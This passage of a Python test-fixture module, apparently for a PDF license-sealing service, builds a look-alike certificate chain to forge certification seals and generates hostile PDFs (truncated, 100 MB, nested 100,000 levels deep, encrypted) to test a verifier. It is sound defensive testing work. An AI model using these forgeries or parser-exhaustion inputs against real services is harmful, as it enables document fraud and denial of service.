    seal = ca.build_seal_certificate(
        seal_key.public_key(), seal_subject, issuing, issuing_key, urls, now
    )
    return LookalikePki(root, issuing, seal, seal_key)


def _asn1(certificate: x509.Certificate) -> asn1_x509.Certificate:
    return asn1_x509.Certificate.load(certificate.public_bytes(serialization.Encoding.DER))


def seal_with_lookalike(
    pdf: bytes, pki: LookalikePki, timestamper: TimeStamper | None, box: tuple[int, int, int, int]
) -> bytes:
    """A certification signature like the service's, from the look-alike seal, with a DSS."""
    key = asn1_keys.PrivateKeyInfo.load(
        pki.seal_key.private_bytes(
            serialization.Encoding.DER,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        )
    )
    signer = signers.SimpleSigner(
        signing_cert=_asn1(pki.seal),
        signing_key=key,
        cert_registry=SimpleCertificateStore.from_certs([_asn1(pki.issuing), _asn1(pki.root)]),
    )
    metadata = signers.PdfSignatureMetadata(
        field_name=SEAL_FIELD,
        md_algorithm="sha256",
        subfilter=fields.SigSeedSubFilter.PADES,
        certify=True,
        docmdp_permissions=fields.MDPPerm.NO_CHANGES,
    )
    output = signers.PdfSigner(
        metadata,
        signer,
        timestamper=timestamper,
        new_field_spec=fields.SigFieldSpec(SEAL_FIELD, on_page=0, box=box),
    ).sign_pdf(_writer(pdf))
    DocumentSecurityStore.add_dss(
        output,
        sig_contents=None,
        certs=[_asn1(c) for c in (pki.seal, pki.issuing, pki.root)],
    )
    return output.getvalue()


# ---- 8. hostile inputs ------------------------------------------------------------------


def png_image() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (16, 16), "red").save(buffer, "PNG")
    return buffer.getvalue()


def random_bytes(size: int = 64 * 1024) -> bytes:
    return random.Random(2021).randbytes(size)


def truncated(pdf: bytes) -> bytes:
    """The first half of the document."""
    return pdf[: len(pdf) // 2]


def oversized(size: int = 100 * 1024 * 1024) -> bytes:
    """A PDF header and a comment running to ``size`` bytes (one copy, built in place)."""
    data = bytearray(size)
    header = b"%PDF-1.7\n%"
    data[: len(header)] = header
    return bytes(data)


def oversized_license(pdf: bytes, size: int = 100 * 1024 * 1024) -> bytes:
    """A sealed license followed by a comment that brings it to ``size`` bytes."""
    data = bytearray(size)
    data[: len(pdf)] = pdf
    data[len(pdf)] = ord("%")
    return bytes(data)


def _raw_pdf(objects: list[bytes], trailer_extra: bytes = b"") -> bytes:
    """A classic PDF with ``objects`` numbered from 1; object 1 is the catalog."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Root 1 0 R /Size %d %s>>\n" % (len(objects) + 1, trailer_extra)
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def deeply_nested(depth: int = 100_000) -> bytes:
    """A catalog holding an array nested ``depth`` levels deep."""
    nested = b"[" * depth + b"]" * depth
    return _raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /Nested " + nested + b" >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        ]
    )


def deeply_nested_update(pdf: bytes, depth: int = 100_000) -> bytes:
    """A sealed license with an update whose trailer holds dictionaries ``depth`` levels deep."""
    return append_update(pdf, {}, b"/Nested " + b"<< /A " * depth + b"0 " + b">> " * depth)


def encrypted(user_password: str = "") -> bytes:
    """An RC4/AES-encrypted one-page PDF (reportlab); with "" it opens without a password."""
    buffer = io.BytesIO()
    canvas = Canvas(buffer, encrypt=StandardEncryption(user_password, ownerPassword="owner-secret"))
    canvas.drawString(72, 720, "HONEST TRADING CO., LTD.")
    canvas.save()
    return buffer.getvalue()
